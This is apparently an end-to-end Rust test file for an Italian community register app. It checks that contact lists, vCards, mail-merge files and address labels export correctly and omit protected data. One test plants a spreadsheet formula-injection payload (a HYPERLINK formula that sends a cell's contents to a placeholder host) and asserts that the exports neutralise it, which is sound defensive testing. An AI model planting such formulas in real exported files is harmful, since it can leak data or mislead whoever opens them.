//! What leaves the register from the pages: a list as a workbook and as text, a card, the file for letters, labels; each opened with a
//! program that is not this one.

use std::fs;
use std::path::PathBuf;

use accogli_core::vault::Role;
use accogli_tests::harness::{App, assert_sound, pdf_text, pictures};
use calamine::{Data, Reader as _, Xlsx};

use crate::demo::Demo;
use crate::steps::{save_print, take_contact};

/// What a spreadsheet would run.
const FORMULA: &str = "=HYPERLINK(\"http://esempio.invalid/\"&A1;\"paga qui\")";

fn closed(app: &App) {
    app.wait_for("the dialog to close", || app.count("dialog", None) == 0);
    app.dismiss_notices();
}

/// Empties the folder in which files are saved, does this, and answers the one that came.
fn one_file(app: &App, ending: &str, make: impl FnOnce()) -> PathBuf {
    for old in fs::read_dir(app.saved()).unwrap() {
        fs::remove_file(old.unwrap().path()).unwrap();
    }
    make();
    app.wait_saved(ending)
}

fn workbook(path: &PathBuf, sheet: &str) -> Vec<Vec<Data>> {
    let mut book: Xlsx<_> = calamine::open_workbook(path).unwrap();
    let formulas = book.worksheet_formula(sheet).unwrap();
    assert!(formulas.cells().all(|(_, _, formula)| formula.is_empty()), "{formulas:?}");
    book.worksheet_range(sheet).unwrap().rows().map(<[Data]>::to_vec).collect()
}

#[test]
fn a_list_leaves_as_a_workbook_and_as_text_with_no_formula_in_it() {
    let demo = Demo::make();
    let app = demo.enter(Role::Coordinator);
    take_contact(&app, FORMULA, ("Sommariva", "Ivana"), "0373841120");
    app.dismiss_notices();
    app.open_page("#/contatti");
    let export = |format: &str, ending: &str| {
        one_file(&app, ending, || {
            app.by_role_name("button", "Esporta").click();
            let form = app.by_role_name("dialog", "Esporta: Contatti");
            form.by_label("Tipo di file").choose(format);
            assert!(form.text().contains("Solo i contatti aperti."), "{}", form.text());
            form.by_label("Perché").type_in("relazione al Comune");
            form.by_role_name("button", "Scegli dove salvare").click();
            // A number that came with a rule is told by its column.
            app.wait_text("in bianco");
            app.press("Escape");
            closed(&app);
        })
    };
    let rows = workbook(&export("Foglio di calcolo (XLSX)", ".xlsx"), "Contatti");
    let heads: Vec<String> = rows[0].iter().map(ToString::to_string).collect();
    let column = |name: &str| heads.iter().position(|head| head == name).unwrap_or_else(|| panic!("{name} in {heads:?}"));
    let row = rows.iter().find(|row| row.iter().any(|cell| cell.to_string().contains("HYPERLINK"))).expect("her contact");
    assert_eq!(row[column("Per che cosa")], Data::String(FORMULA.to_owned()), "words, as they were said");
    assert_eq!(row[column("Telefono")], Data::String("0373 841 120".to_owned()));
    let text = fs::read_to_string(export("Testo con punto e virgola (CSV)", ".csv")).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("the mark of UTF-8");
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(text.as_bytes());
    let lines: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(lines.len(), rows.len(), "the same rows in both");
    let told: Vec<&str> = lines.iter().flatten().filter(|cell| cell.contains("HYPERLINK")).collect();
    assert_eq!(told, [format!("'{FORMULA}")]);
    assert!(lines.iter().flatten().all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{text}");
}

#[test]
fn a_card_is_of_whom_one_chose_and_carries_what_is_free() {
    let demo = Demo::make();
    let app = demo.enter(Role::Desk);
    let card = |of: &str| {
        app.by_role_name("button", &format!("Modifica {of}")).click();
        app.by_role_name("menuitem", "Salva il biglietto da visita (vCard)").click();
        let form = app.by_role_name("dialog", &format!("Biglietto da visita di {of}"));
        form.by_label("Perché").type_in("rubrica del telefono del centro");
        form.by_role_name("button", "Scegli dove salvare").click();
    };
    app.open_page("#/famiglie");
    app.first("link", "Cattaneo – Donida – Vailati").click();
    let path = one_file(&app, ".vcf", || {
        card("Cattaneo Elena");
        closed(&app);
    });
    let text = fs::read_to_string(path).unwrap();
    for line in ["FN:Elena Cattaneo", "N:Cattaneo;Elena;;;", "348 000 6120", "EMAIL:elena.cattaneo@esempio.invalid", "Via dei Gelsi 7"] {
        assert!(text.contains(line), "{line}\n{text}");
    }
    assert!(
        text.starts_with("BEGIN:VCARD\r\nVERSION:4.0") && text.matches("BEGIN:VCARD").count() == 1 && !text.contains("Marco"),
        "{text}"
    );

    // A number with hours stays out: an address book shows no hours. Her e-mail is free.
    app.open_page("#/famiglie");
    app.in_row(&["Lo Monaco", "Martina"], "a[href]").click();
    app.by_role_name("button", "Modifica Lo Monaco Martina");
    let path = one_file(&app, ".vcf", || {
        card("Lo Monaco Martina");
        closed(&app);
    });
    let text = fs::read_to_string(path).unwrap();
    assert!(text.contains("martina.lomonaco@esempio.invalid") && !text.contains("5196"), "{text}");
}

#[test]
fn letters_are_merged_from_a_file_and_labels_stand_on_their_sheet() {
    let demo = Demo::make();
    let app = demo.enter(Role::Coordinator);
    app.open_page("#/famiglie");
    let ask = |what: &str| {
        app.by_role_name("button", "Lettere ed etichette").click();
        let form = app.by_role_name("dialog", "Lettere ed etichette");
        form.by_label("Che cosa preparare").choose(what);
        form.by_label("Perché").type_in("invito alla festa dei vicini");
        form
    };
    let path = one_file(&app, ".xlsx", || {
        ask("File per la stampa unione di lettere").by_role_name("button", "Prepara").click();
        app.wait_text("indirizzo protetto");
    });
    app.survey("leaving-letters");
    app.by_role_name("dialog", "Lettere ed etichette").by_css(".dialog-body > .btn, .dialog-body > button").click();
    closed(&app);
    let rows = workbook(&path, "Lettere");
    assert_eq!(
        rows[0].iter().map(ToString::to_string).collect::<Vec<_>>(),
        ["Saluto", "Destinatario", "Indirizzo", "CAP", "Comune", "Fascicolo"]
    );
    let words: String = rows.iter().flatten().map(|cell| format!("{cell}\n")).collect();
    assert!(rows.len() > 3 && words.contains("Via dei Gelsi 7") && words.contains("Offanengo") && words.contains("26010"), "{words}");
    assert!(!words.contains("Marchesi"), "a protected address: {words}");

    // The same people on labels; the sheet begins where it is still whole.
    let form = ask("Etichette con l'indirizzo (PDF)");
    form.by_label("Foglio di etichette").choose("2 × 7, 99,1 × 38,1 mm");
    form.by_label("Prima etichetta libera").type_in("4");
    form.by_role_name("button", "Prepara").click();
    app.wait_text("Salva con nome…");
    app.picture("leaving-labels");
    let pdf = save_print(&app);
    assert_sound(&pdf);
    let to = pictures().join("paper-labels");
    let drawn = std::process::Command::new("pdftoppm").args(["-r", "60", "-png"]).arg(&pdf).arg(to).status().unwrap();
    assert!(drawn.success());
    let text = pdf_text(&pdf);
    assert!(text.contains("Via dei Gelsi 7") && text.contains("26010 Offanengo") && !text.contains("Giulia Marchesi"), "{text}");
    // Three labels of two columns are gone: the first name stands on the right, and nobody beside it.
    let first = text.lines().find(|line| !line.trim().is_empty()).unwrap();
    assert!(first.starts_with(&" ".repeat(20)), "{text}");
}
